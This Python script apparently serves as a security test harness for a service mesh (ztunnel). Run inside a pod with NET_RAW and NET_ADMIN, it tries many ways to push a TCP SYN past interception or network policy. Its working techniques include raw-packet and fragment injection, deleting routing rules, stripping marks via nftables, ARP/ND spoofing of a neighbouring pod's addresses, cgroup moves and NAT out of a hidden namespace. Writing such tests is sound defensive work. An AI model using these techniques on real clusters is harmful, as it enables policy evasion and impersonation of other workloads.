"""What a pod with NET_RAW and NET_ADMIN may try to get TCP out past ztunnel, or into a pod past its policy, one
way a name.

    hostile.py NAME TARGET4 TARGET6 PORT GATEWAY_MAC

Runs inside the pod, sends what it can and ends with 0; whether anything arrived is for the caller to see.
Every way ends with a SYN for TARGET:PORT on the wire, if nobody stops it.
"""

import socket
import struct
import subprocess
import sys

SOURCE_PORT = 4444
ETH_IP, ETH_IP6, ETH_VLAN = 0x0800, 0x86DD, 0x8100
FASTOPEN_CONNECT, FASTOPEN_NO_COOKIE = 30, 34  # <linux/tcp.h>
MSG_FASTOPEN = 0x20000000
MPTCP = 262


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Target:
    def __init__(self, ip4, ip6, port, gateway):
        self.ip4, self.ip6, self.port = ip4, ip6, port
        self.gateway = bytes.fromhex(gateway.replace(":", ""))

    def own(self, family):
        with socket.socket(family, socket.SOCK_DGRAM) as probe:
            probe.connect((self.ip(family), 9))
            return probe.getsockname()[0]

    def ip(self, family):
        return self.ip4 if family == socket.AF_INET else self.ip6

    def speaking_as(self, ip4, ip6):
        """The same destination for somebody who claims these addresses."""
        other = Target(self.ip4, self.ip6, self.port, self.gateway.hex())
        other.own = lambda family: ip4 if family == socket.AF_INET else ip6
        return other


def syn(target, family, flags=0x02):
    source = socket.inet_pton(family, target.own(family))
    to = socket.inet_pton(family, target.ip(family))
    tcp = struct.pack("!HHIIBBHHH", SOURCE_PORT, target.port, 1, 0, 5 << 4, flags, 65535, 0, 0)
    pseudo = source + to + struct.pack("!II", len(tcp), socket.IPPROTO_TCP)
    return tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def ip4(target, payload, protocol=socket.IPPROTO_TCP, options=b"", fragment=0, ident=77):
    header = struct.pack("!BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload),
                         ident, fragment, 64, protocol, 0,
                         socket.inet_aton(target.own(socket.AF_INET)), socket.inet_aton(target.ip4))
    header += options
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def ip6(target, payload, next_header=socket.IPPROTO_TCP):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), next_header, 64,
                       socket.inet_pton(socket.AF_INET6, target.own(socket.AF_INET6)),
                       socket.inet_pton(socket.AF_INET6, target.ip6)) + payload


def wire(target, *packets, tags=b""):
    """Ethernet frames through AF_PACKET: below routing, netfilter and every hook of the pod."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind(("eth0", 0))
        mac = out.getsockname()[4]
        for packet in packets:
            kind = ETH_IP if packet[0] >> 4 == 4 else ETH_IP6
            out.send(target.gateway + mac + tags + struct.pack("!H", kind) + packet)


def run(*argv):
    subprocess.run(argv, check=True, stdout=subprocess.DEVNULL)


def forget_rules():
    """Capture's, if the pod is captured."""
    for family in ("-4", "-6"):
        subprocess.run(["ip", family, "rule", "del", "pref", "1"], check=False, stderr=subprocess.DEVNULL)


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def connect(target, family, protocol=0, before=None, after=None):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as app:
        app.settimeout(1)
        try:
            if before:
                before(app)
            app.connect((target.ip(family), target.port))
            if after:
                after(app)
            app.send(b"x")
        except OSError as error:
            print(f"{family.name}: {error}")


def both(attempt):
    for family in (socket.AF_INET, socket.AF_INET6):
        attempt(family)


def tagged(tag):
    return struct.pack("!HH", ETH_VLAN, tag)


def v6_fragments(target, first, rest_offset):
    """The SYN behind a fragment header, cut at `rest_offset`; 0: whole, an atomic fragment."""
    segment = first
    if not rest_offset:
        return [ip6(target, struct.pack("!BBHI", 6, 0, 0, 9) + segment, 44)]
    return [ip6(target, struct.pack("!BBHI", 6, 0, 1, 9) + segment[:rest_offset], 44),
            ip6(target, struct.pack("!BBHI", 6, 0, rest_offset, 9) + segment[rest_offset:], 44)]


def mark(target):
    both(lambda f: connect(target, f, before=lambda s: s.setsockopt(
        socket.SOL_SOCKET, socket.SO_MARK, 0x539)))


def syn_at_the_first_write(app):
    app.setsockopt(socket.IPPROTO_TCP, FASTOPEN_NO_COOKIE, 1)
    app.setsockopt(socket.IPPROTO_TCP, FASTOPEN_CONNECT, 1)


def mark_taken_off_before_the_syn(target):
    both(lambda f: connect(target, f, before=syn_at_the_first_write,
                           after=lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0)))


def device_bound_before_the_syn(target):
    def bind(app):
        app.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0)
        app.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    both(lambda f: connect(target, f, before=syn_at_the_first_write, after=bind))


def raw_socket(target):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as out:
        out.sendto(syn(target, socket.AF_INET), (target.ip4, 0))
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP) as out:
        out.sendto(syn(target, socket.AF_INET6), (target.ip6, 0))


def packet_socket(target):
    wire(target, ip4(target, syn(target, socket.AF_INET)), ip6(target, syn(target, socket.AF_INET6)))


def odd_flags(target):
    for flags in (0x02 | 0x08, 0x02 | 0xC0, 0x02 | 0x20):  # PSH, ECE+CWR, URG
        wire(target, ip4(target, syn(target, socket.AF_INET, flags)),
             ip6(target, syn(target, socket.AF_INET6, flags)))


def ip_options(target):
    wire(target, ip4(target, syn(target, socket.AF_INET), options=b"\x01" * 40))


def fragments(target):
    segment = syn(target, socket.AF_INET)
    for cut in (8, 16):
        wire(target, ip4(target, segment[:cut], fragment=0x2000, ident=cut),
             ip4(target, segment[cut:], fragment=cut // 8, ident=cut))
    # The last piece first, and the head twice with the flags only in the second.
    plain = syn(target, socket.AF_INET, 0x10)
    wire(target, ip4(target, plain, fragment=0x2000, ident=5),
         ip4(target, segment[8:], fragment=0x2000 | 1, ident=5),
         ip4(target, b"x" * 8, fragment=3, ident=5))


def v6_extension_headers(target):
    segment = syn(target, socket.AF_INET6)
    pad = b"\x01\x04\0\0\0\0"
    hop = bytes([60, 0]) + pad       # hop-by-hop, then destination options
    options = bytes([6, 0]) + pad
    wire(target, ip6(target, hop + options + segment, 0))
    wire(target, ip6(target, bytes([60, 0]) + pad + (bytes([60, 0]) + pad) * 20 + options + segment, 60))
    wire(target, ip6(target, bytes([6, 2, 0, 0]) + b"\0" * 12 + segment, 51))  # AH
    for cut in (0, 8, 16):
        wire(target, *v6_fragments(target, segment, cut))


def ip_in_ip(target):
    inner4, inner6 = ip4(target, syn(target, socket.AF_INET)), ip6(target, syn(target, socket.AF_INET6))
    wire(target, ip4(target, inner4, 4), ip4(target, inner6, 41), ip6(target, inner4, 4),
         ip6(target, inner6, 41))


def vlan_tags(target):
    packets = (ip4(target, syn(target, socket.AF_INET)), ip6(target, syn(target, socket.AF_INET6)))
    for tags in (tagged(0), tagged(7), tagged(0) * 2, tagged(0) * 3, tagged(0) * 5):
        wire(target, *packets, tags=tags)


def rule_deleted(target):
    forget_rules()
    both(lambda f: connect(target, f))


def route_deleted(target):
    for family in ("-4", "-6"):
        run("ip", family, "route", "flush", "table", "27953")
    both(lambda f: connect(target, f))


def rule_before_ours(target):
    for family in ("-4", "-6"):
        run("ip", family, "rule", "add", "pref", "0", "lookup", "main")
    both(lambda f: connect(target, f))


def mptcp(target):
    forget_rules()
    both(lambda f: connect(target, f, protocol=MPTCP))


def tcp_fast_open(target):
    forget_rules()

    def attempt(family):
        with socket.socket(family, socket.SOCK_STREAM) as app:
            app.settimeout(1)
            app.setsockopt(socket.IPPROTO_TCP, FASTOPEN_NO_COOKIE, 1)
            try:
                app.sendto(b"data in the SYN", MSG_FASTOPEN, (target.ip(family), target.port))
                app.recv(1)
            except OSError as error:
                print(f"{family.name}: {error}")
    both(attempt)


def v4_mapped(target):
    forget_rules()
    mapped = Target("::ffff:" + target.ip4, "::ffff:" + target.ip4, target.port, target.gateway.hex())
    connect(mapped, socket.AF_INET6)


def own_netfilter_rules(target):
    """The mark comes off behind the connect hook, and the kernel routes anew."""
    run("nft", "add table inet hostile")
    run("nft", "add chain inet hostile out { type route hook output priority mangle; }")
    run("nft", "add rule inet hostile out meta l4proto tcp meta mark set 0")
    both(lambda f: connect(target, f))


def another_cgroup(target):
    """Where no hook of the node's pods is. A container's cgroup file system is read-only; this one's is not."""
    with open("/proc/self/mounts") as mounts:
        root = next(line.split()[1] for line in mounts if line.split()[2] == "cgroup2")
    write(f"{root}/cgroup.procs", "0")
    both(lambda f: connect(target, f))


def sysctls_flipped(target):
    for key in ("ipv4/tcp_fwmark_accept", "ipv4/tcp_migrate_req", "ipv4/fwmark_reflect", "ipv6/fwmark_reflect"):
        write(f"/proc/sys/net/{key}", "0")
    both(lambda f: connect(target, f))


def neighbours_address(target):
    """Claims the addresses of another pod, by ARP and ND, and speaks as that."""
    ip_4, ip_6 = "10.66.0.77", "fd66::77"
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind(("eth0", 0))
        mac = out.getsockname()[4]
        claim = socket.inet_aton(ip_4)
        out.send(b"\xff" * 6 + mac + struct.pack("!HHHBBH", 0x0806, 1, ETH_IP, 6, 4, 2) + mac + claim +
                 b"\xff" * 6 + claim)
        claim, everybody = (socket.inet_pton(socket.AF_INET6, a) for a in (ip_6, "ff02::1"))
        advertisement = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + claim + b"\x02\x01" + mac
        pseudo = claim + everybody + struct.pack("!II", len(advertisement), 58)
        advertisement = (advertisement[:2] + struct.pack("!H", checksum(pseudo + advertisement)) +
                         advertisement[4:])
        header = struct.pack("!IHBB16s16s", 6 << 28, len(advertisement), 58, 255, claim, everybody)
        out.send(b"\x33\x33\0\0\0\x01" + mac + struct.pack("!H", ETH_IP6) + header + advertisement)
    packet_socket(target.speaking_as(ip_4, ip_6))


def link_local(target):
    """To the node, by the scope that no route is needed for."""
    def of(mac):
        host = bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
        return socket.inet_ntop(socket.AF_INET6, b"\xfe\x80" + b"\0" * 6 + host)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as probe:
        probe.bind(("eth0", 0))
        own = probe.getsockname()[4]
    node = Target(target.ip4, of(target.gateway), target.port, target.gateway.hex())
    wire(target, ip6(node.speaking_as("0.0.0.0", of(own)),
                     syn(node.speaking_as("0.0.0.0", of(own)), socket.AF_INET6)))


def forwarded_from_a_namespace_inside(target):
    """The pod becomes a router for a namespace that nobody has enrolled, and hides it behind its address."""
    write("/proc/sys/net/ipv4/ip_forward", "1")
    write("/proc/sys/net/ipv6/conf/all/forwarding", "1")
    run("nft", "add table inet hostile")
    run("nft", "add chain inet hostile out { type nat hook postrouting priority srcnat; }")
    run("nft", "add rule inet hostile out oifname eth0 masquerade")
    with Inside() as inside:
        run("ip", "link", "add", "in0", "type", "veth", "peer", "name", "in1", "netns", str(inside.pid))
        run("ip", "link", "set", "in0", "up")
        inside.run("ip", "link", "set", "in1", "up")
        for net, own in (("192.168.9", ".1/30"), ("fd09:", ":1/64")):
            run("ip", "addr", "add", net + own, "dev", "in0", *(["nodad"] if ":" in net else []))
        for net, own, gateway in (("192.168.9", ".2/30", ".1"), ("fd09:", ":2/64", ":1")):
            inside.run("ip", "addr", "add", net + own, "dev", "in1", *(["nodad"] if ":" in net else []))
            inside.run("ip", "-6" if ":" in net else "-4", "route", "add", "default", "via", net + gateway)
        inside.call(target)


def added_address(target):
    run("ip", "addr", "add", "10.66.0.99/32", "dev", "eth0")
    run("ip", "addr", "add", "fd66::99/128", "dev", "eth0", "nodad")
    forget_rules()
    sources = {socket.AF_INET: "10.66.0.99", socket.AF_INET6: "fd66::99"}
    both(lambda f: connect(target, f, before=lambda s: s.bind((sources[f], 0))))


def transparent(target):
    forget_rules()
    sources = {socket.AF_INET: ("10.9.9.9", socket.SOL_IP, 19), socket.AF_INET6: ("fd99::9", 41, 75)}

    def steal(app, family):
        ip, level, option = sources[family]
        app.setsockopt(level, option, 1)
        app.bind((ip, 0))
    both(lambda f: connect(target, f, before=lambda s: steal(s, f)))


def macvlan_in_a_namespace_of_its_own(target):
    run("ip", "link", "add", "mv0", "link", "eth0", "type", "macvlan", "mode", "bridge")
    nested(target, "mv0")


def interface_moved_away(target):
    nested(target, "eth0")


def nested(target, device):
    """A namespace that nobody has enrolled, behind the pod's own veth."""
    own = {f: target.own(f) for f in (socket.AF_INET, socket.AF_INET6)}
    with Inside() as inside:
        run("ip", "link", "set", device, "netns", str(inside.pid))
        inside.run("ip", "link", "set", device, "up")
        inside.run("ip", "addr", "add", own[socket.AF_INET] + "/32", "dev", device)
        inside.run("ip", "addr", "add", own[socket.AF_INET6] + "/128", "dev", device, "nodad")
        for family, gateway in (("-4", "169.254.1.1"), ("-6", "fd66:ffff::1")):
            inside.run("ip", family, "route", "add", gateway, "dev", device)
            inside.run("ip", family, "route", "add", "default", "via", gateway, "dev", device)
        inside.call(target)


class Inside:
    """A network namespace that the pod makes for itself."""

    def __enter__(self):
        self.holder = subprocess.Popen(["unshare", "-n", "sh", "-c", "echo ready; exec sleep 30"],
                                       stdout=subprocess.PIPE)
        self.holder.stdout.readline()
        self.pid = self.holder.pid
        self.enter = ["nsenter", "-t", str(self.pid), "-n"]
        return self

    def __exit__(self, *_):
        self.holder.kill()
        self.holder.wait()

    def run(self, *argv):
        run(*self.enter, *argv)

    def call(self, target):
        for ip in (target.ip4, target.ip6):
            subprocess.run([*self.enter, "curl", "-s", "-g", "--max-time", "2",
                            f"http://{'[%s]' % ip if ':' in ip else ip}:{target.port}/"], check=False)


def main():
    name, ip_4, ip_6, port, gateway = sys.argv[1:]
    globals()[name](Target(ip_4, ip_6, int(port), gateway))


if __name__ == "__main__":
    main()
